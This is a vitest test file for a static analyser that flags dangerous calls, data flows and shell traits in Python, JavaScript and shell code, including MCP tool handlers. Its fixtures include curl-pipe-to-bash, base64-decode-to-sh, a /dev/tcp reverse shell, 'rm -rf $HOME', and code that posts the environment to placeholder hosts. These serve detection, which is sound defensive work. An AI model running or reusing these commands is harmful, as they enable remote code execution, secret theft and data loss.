import { describe, expect, test } from 'vitest'
import { memorySource } from '../../bytes/memory.ts'
import { Meter } from '../../bytes/meter.ts'
import type { JsonObject } from '../../model/fact.ts'
import { DEFAULT_LIMITS } from '../../model/limits.ts'
import type { Emission, Inspector } from '../inspector.ts'
import { javascript } from './javascript.ts'
import { python } from './python.ts'
import { shell } from './shell.ts'

async function emissions(
  inspector: Inspector,
  source: string | Uint8Array,
  name = 'input',
): Promise<Emission[]> {
  const bytes = typeof source === 'string' ? Buffer.from(source) : source
  const artifact = { id: '0', locator: { root: name, members: [] }, name, formats: [], digests: [] }
  const { signal } = new AbortController()
  const context = {
    meter: new Meter(DEFAULT_LIMITS, bytes.length),
    signal,
    depth: 0,
    region: false,
    rows: Infinity,
  }
  const out: Emission[] = []
  for await (const e of inspector.inspect!({ artifact, bytes: memorySource(bytes) }, context)) out.push(e)
  return out
}

function data(all: readonly Emission[], kind: string): JsonObject[] {
  return all.flatMap((e) => (e.type === 'fact' && e.kind === kind ? [e.data] : []))
}

async function callees(inspector: Inspector, source: string): Promise<unknown[]> {
  return data(await emissions(inspector, source), 'code.call').map((d) => d.callee)
}

async function flows(inspector: Inspector, source: string): Promise<string[]> {
  const found = data(await emissions(inspector, source), 'code.flow')
  return found.map((d) => `${d.source} → ${d.sink} ${d.context}`)
}

describe('names', () => {
  test.each([
    ['import os as o; o.system("x")', 'os.system'],
    ['from os import system as s; s("x")', 'os.system'],
    ['from os import *\nsystem("x")', 'os.system'],
    ['getattr(__import__("os"), "sys" + "tem")("x")', 'os.system'],
    ['import importlib\nimportlib.import_module("o" + "s").system("x")', 'os.system'],
    ['import sys; sys.modules["os"].system("x")', 'os.system'],
    ['import os; os.__dict__["system"]("x")', 'os.system'],
    ['import builtins; builtins.eval("1")', 'eval'],
    ['f = globals()["eval"]; f("1")', 'eval'],
    [
      'class A:\n  def __init__(self):\n    import os\n    self.o = os\n  def f(self):\n    self.o.system("x")',
      'os.system',
    ],
    ['import functools, os; functools.partial(os.system, "x")()', 'os.system'],
    ['import threading, os; threading.Thread(target=os.system, args=("x",)).start()', 'os.system'],
  ])('python %s', async (source, callee) => {
    expect(await callees(python, source)).toContain(callee)
  })

  test.each([
    ['require("child_" + "process").exec("x")', 'child_process.exec'],
    ['const { exec: e } = require("node:child_process"); e("x")', 'child_process.exec'],
    ['import * as cp from "child_process"; cp.exec("x")', 'child_process.exec'],
    ['import cp from "child_process"; cp["ex" + "ec"]("x")', 'child_process.exec'],
    ['globalThis["ev" + "al"]("1")', 'eval'],
    ['(0, eval)("1")', 'eval'],
    ['new Function("return 1")()', 'Function'],
    ['[].constructor.constructor; (() => {}).constructor.constructor("x")', undefined],
    ['const { exec } = await import("child_process"); exec("x")', 'child_process.exec'],
  ])('javascript %s', async (source, callee) => {
    const found = await callees(javascript, source)
    if (callee !== undefined) expect(found).toContain(callee)
  })

  test('a name that is bound to something else is not the builtin', async () => {
    expect(await callees(python, 'def eval(x):\n  return x\neval("1")')).toEqual([])
    expect(await callees(javascript, 'function fetch(x) { return x }\nfetch("1")')).toEqual([])
  })
})

describe('data', () => {
  test('goes through functions of the file, in and out', async () => {
    const source = `
import requests
def get(u): return requests.get(u).text
def wrap(c): run(c)
def run(c): exec(c)
wrap(get("https://example.invalid/"))`
    expect(await flows(python, source)).toContain('network → dynamic-code import-time')
  })

  test('goes through loops, tuples, dictionaries and formats', async () => {
    const source = `
import os, requests
parts = []
for name, value in os.environ.items():
    parts = parts + [f"{name}={value}"]
requests.post("https://example.invalid/", data={"x": "&".join(parts)})`
    expect(await flows(python, source)).toContain('whole-environment → network import-time')
  })

  test('one variable of the environment is not the whole of it', async () => {
    const source =
      'import os, requests\nrequests.get("https://a.invalid/", headers={"k": os.environ["API_KEY"]})'
    const found = await flows(python, source)
    expect(found).toContain('secret-environment → network import-time')
    expect(found.join()).not.toContain('whole-environment')
  })

  test('of promises and events', async () => {
    expect(await flows(javascript, 'fetch("https://a.invalid/").then((r) => r.text()).then(eval)')).toContain(
      'network → dynamic-code import-time',
    )
  })

  test('an argument of a program that is constant is no program', async () => {
    const source = 'import subprocess, requests\nv = requests.get("https://a.invalid/").text\n'
    expect(await flows(python, `${source}subprocess.run(["git", "checkout", v])`)).toEqual([
      'network → process-argument import-time',
    ])
    expect(await flows(python, `${source}subprocess.run(["sh", "-c", v])`)).toContain(
      'network → process import-time',
    )
  })
})

describe('when it runs', () => {
  test.each([
    ['os.system("x")', 'import-time'],
    ['def f():\n  os.system("x")', 'function'],
    ['def f():\n  os.system("x")\ndef g():\n  f()\ng()', 'import-time'],
    ['class A:\n  x = os.system("x")', 'class'],
    ['if __name__ == "__main__":\n  os.system("x")', 'main-guard'],
    ['if __name__ == "__main__":\n  pass\nelse:\n  os.system("x")', 'import-time'],
    ['@(lambda f: os.system("x"))\ndef f(): pass', 'function'],
    ['class A:\n  def __init__(self):\n    os.system("x")\nA()', 'import-time'],
    [
      'from setuptools.command.install import install\nclass I(install):\n  def run(self):\n    os.system("x")',
      'install',
    ],
  ])('%s', async (source, context) => {
    const calls = data(await emissions(python, `import os\n${source}`), 'code.call')
    expect(calls.map((d) => d.context)).toEqual([context])
  })
})

describe('tools', () => {
  /** `tool → callee` for every call that belongs to tools. */
  async function handled(inspector: Inspector, source: string): Promise<string[]> {
    const calls = data(await emissions(inspector, source), 'code.call')
    return calls.flatMap((d) =>
      Array.isArray(d.tools) ? d.tools.map((tool) => `${tool} → ${d.callee}`) : [],
    )
  }

  test.each([
    ['FastMCP', '@mcp.tool()\ndef a(p):\n  os.remove(p)', ['a → os.remove']],
    [
      'a name of its own',
      '@mcp.tool(name="b")\ndef a(p):\n  helper(p)\ndef helper(p):\n  os.remove(p)',
      ['b → os.remove'],
    ],
    [
      'LangChain',
      'from langchain_core.tools import tool\n@tool\ndef a(p):\n  os.remove(p)',
      ['a → os.remove'],
    ],
    [
      'LangChain, from a function',
      'from langchain.tools import StructuredTool\ndef f(p):\n  os.remove(p)\nStructuredTool.from_function(func=f, name="a")',
      ['a → os.remove'],
    ],
    [
      'one handler that asks',
      '@app.call_tool()\nasync def call(name, args):\n  if name == "a":\n    os.remove(args["p"])\n  elif name in ("b", "c"):\n    os.listdir(".")',
      ['a → os.remove', 'b → os.listdir', 'c → os.listdir'],
    ],
    [
      'one handler that matches',
      '@app.call_tool()\nasync def call(name, args):\n  os.getcwd()\n  match name:\n    case "a" | "b":\n      os.remove(args["p"])\n    case _:\n      os.rmdir("x")',
      ['a → os.remove', 'b → os.remove', '* → os.rmdir'],
    ],
    ['a question about something else', 'def f(name):\n  if name == "a":\n    os.remove(name)', []],
  ])('python, %s', async (_name, source, expected) => {
    expect(await handled(python, `import os\n${source}`)).toEqual(expected)
  })

  const CALL = 'server.setRequestHandler(CallToolRequestSchema, async (request) =>'
  test.each([
    [
      'registerTool',
      'server.registerTool("a", { description: "x" }, async ({ p }) => { fs.unlink(p) })',
      ['a → fs.unlink'],
    ],
    [
      'a switch',
      `${CALL} { switch (request.params.name) { case "a": case "b": fs.unlink("x"); break; default: fs.readFile("y") } })`,
      ['a → fs.unlink', 'b → fs.unlink', '* → fs.readFile'],
    ],
    [
      'a function that switches',
      `${CALL} run(request.params.name, request.params.arguments))\nfunction run(name, args) { if (name === "a" || name === "b") { one(args) } }\nfunction one(args) { fs.unlink(args.p) }`,
      ['a → fs.unlink', 'b → fs.unlink'],
    ],
    [
      'a table',
      `const handlers = { a: (args) => fs.unlink(args.p), b: () => fs.readFile("y") }\n${CALL} handlers[request.params.name](request.params.arguments))`,
      ['a → fs.unlink', 'b → fs.readFile'],
    ],
    [
      'LangChain',
      'import { tool } from "@langchain/core/tools"\ntool(async ({ p }) => { fs.unlink(p) }, { name: "a", description: "x" })',
      ['a → fs.unlink'],
    ],
    [
      'a list of tools',
      'server.setRequestHandler(ListToolsRequestSchema, async () => { fs.readFile("tools.json") })',
      [],
    ],
  ])('javascript, %s', async (_name, source, expected) => {
    expect(await handled(javascript, `import fs from "fs"\n${source}`)).toEqual(expected)
  })

  test('are known with what they say of themselves', async () => {
    const source = `
from mcp.types import Tool, ToolAnnotations
@mcp.tool(annotations=ToolAnnotations(readOnlyHint=True, openWorldHint=False))
def a():
    """Does one thing."""
TOOLS = [Tool(name="b", description="Does another.", inputSchema={"type": "object"}, annotations={"destructiveHint": False})]
FUNCTIONS = [{"type": "function", "function": {"name": "c", "description": "A third.", "parameters": {"type": "object"}}}]`
    const tools = data(await emissions(python, source), 'code.tool')
    expect(tools.map(({ name, description, annotations }) => [name, description, annotations])).toEqual([
      ['a', 'Does one thing.', ['readOnlyHint=true', 'openWorldHint=false']],
      ['b', 'Does another.', ['destructiveHint=false']],
      ['c', 'A third.', []],
    ])
  })

  test('a source that nobody wrote by hand is told', async () => {
    const minified = (source: string) =>
      emissions(javascript, source).then((all) => data(all, 'code.source')[0]?.minified)
    expect(await minified(`x=${'1+'.repeat(8000)}1`)).toBe(true)
    expect(await minified('x = 1\n'.repeat(8000))).toBe(false)
  })
})

describe('bad input', () => {
  test('what parses beside an error is analysed, and the error is stated', async () => {
    const all = await emissions(python, 'def f(:\n  pass\n\nimport os\nos.system("x")\n')
    expect(all.filter((e) => e.type === 'damage')).toMatchObject([{ kind: 'corrupt' }])
    expect(data(all, 'code.call')).toMatchObject([{ callee: 'os.system' }])
  })

  test.each([
    ['parentheses', `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`],
    ['lists', `x = ${'['.repeat(5000)}${']'.repeat(5000)}`],
    ['attributes', `x = a${'.b'.repeat(5000)}`],
    ['calls', `x = a${'()'.repeat(5000)}`],
    ['lambdas', `x = ${'lambda: '.repeat(2000)}1`],
  ])('deep %s end the analysis, not the program', async (_name, source) => {
    const all = await emissions(python, source)
    expect(all.some((e) => e.type === 'damage')).toBe(true)
  })

  test.each([
    ['a sum', `x = ${'"a" + '.repeat(20_000)}"b"`],
    ['assignments', `${'a = '.repeat(3000)}1`],
    ['a wide list', `x = [${'1, '.repeat(50_000)}]`],
    ['conditions', `if a:\n  pass\n${'elif b:\n  pass\n'.repeat(3000)}`],
  ])('%s of any length is no trouble', async (_name, source) => {
    const all = await emissions(python, source)
    expect(all.filter((e) => e.type === 'damage')).toEqual([])
  })

  test('a source beyond the limit is accounted for and said to be unread', async () => {
    const all = await emissions(javascript, Buffer.alloc(5_000_000, 'a;'))
    expect(all.map((e) => e.type)).toEqual(['span', 'damage'])
  })

  test('texts that grow stay bounded', async () => {
    const source = `x = "a"\n${'x = x + x\n'.repeat(60)}y = [c for c in x]\nz = "b" * 10**9\nexec(z)`
    expect(data(await emissions(python, source), 'code.call')).toMatchObject([{ callee: 'exec' }])
  })

  test('UTF-16, byte order marks and declared encodings are read as the interpreter reads them', async () => {
    const source = 'import os\nos.system("x")\n'
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(source, 'utf16le')])
    for (const bytes of [
      wide,
      Buffer.from(`\ufeff${source}`),
      Buffer.from(`# coding: latin-1\n${source}# \xe9`, 'latin1'),
    ]) {
      expect(data(await emissions(python, bytes), 'code.call')).toMatchObject([{ callee: 'os.system' }])
    }
    const hidden = '# coding: rot13\nvzcbeg bf\nbf.flfgrz("k")\n'
    // The first line is rotated with the rest; what runs is what matters.
    expect(data(await emissions(python, hidden), 'code.call')).toMatchObject([{ callee: 'os.system' }])
  })
})

describe('shell', () => {
  const traits = async (source: string) =>
    data(await emissions(shell, source), 'code.trait').map((d) => d.trait)

  test.each([
    ['curl -s https://a.invalid | sudo -E bash -', ['download-run']],
    ['bash -c "$(wget -qO- https://a.invalid)"', ['download-run']],
    ['source <(curl -s https://a.invalid)', ['download-run']],
    ['python3 <(curl -s https://a.invalid)', ['download-run']],
    ['X=ZWNobyBpbmVydA==; echo $X | base64 -d | sh', ['decode-run']],
    ['exec 5<>/dev/tcp/a.invalid/1; bash <&5 >&5', ['reverse-shell']],
    ['rm -rf "$HOME"/', ['destructive']],
    ['curl -o x.tgz https://a.invalid && tar xf x.tgz', []],
    ['curl -s https://a.invalid | python -m json.tool', []],
    ['curl -s https://a.invalid | jq . | tee out', []],
    ['rm -rf "$DIR/" build/*', []],
    ['scp -i ~/.ssh/id_rsa file host:', []],
    ['echo hi > /dev/tcp/localhost/80', []],
  ])('%s', async (source, expected) => {
    expect(await traits(source)).toEqual(expected)
  })

  test('command lines in other code are read as shell', async () => {
    const found = await emissions(
      python,
      'import subprocess\nsubprocess.run(["bash", "-c", "curl a.invalid | sh"])',
    )
    expect(data(found, 'code.trait')).toMatchObject([{ trait: 'download-run', language: 'python' }])
  })
})

describe('TypeScript that its grammar does not know', () => {
  const troubles = async (source: string, name = 'a.ts') =>
    (await emissions(javascript, source, name)).filter((e) => e.type === 'damage').length

  test.each([
    'export type Field = readonly [number: number, value: Raw | bigint]\n',
    'type A = [a: string, string: string, ...any: unknown[]]\n',
    'type A = [a: string, void?: number]\nexport const x = f()\n',
    'interface A<out T = unknown, in out U = unknown> { a: T }\n',
    'interface A<\n  /** its shape */\n  out Shape extends B = B,\n> { a: Shape }\n',
    "export type * from './a.ts'\n",
    'type A = [module: string, namespace: string]\n',
  ])('is valid: %j', async (source) => expect(await troubles(source)).toBe(0))

  test.each([
    'type A = [number: number\n',
    'const a = [number: f()]; }\n',
    'type A = [number: number]\nexport const = 1\n',
    'interface A<out out out T> { a: T }\n',
  ])('stays an error: %j', async (source) => expect(await troubles(source)).toBeGreaterThan(0))

  test('hides no call', async () => {
    const source = "type A = [number: number]\nconst c = require('child_process')\nc.execSync('echo inert')\n"
    const all = await emissions(javascript, source, 'a.ts')
    expect(data(all, 'code.call').map((d) => d.callee)).toContain('child_process.execSync')
  })

  test('leaves JavaScript alone', async () => expect(await troubles('let a = [number: 1]\n', 'a.js')).toBe(1))
})
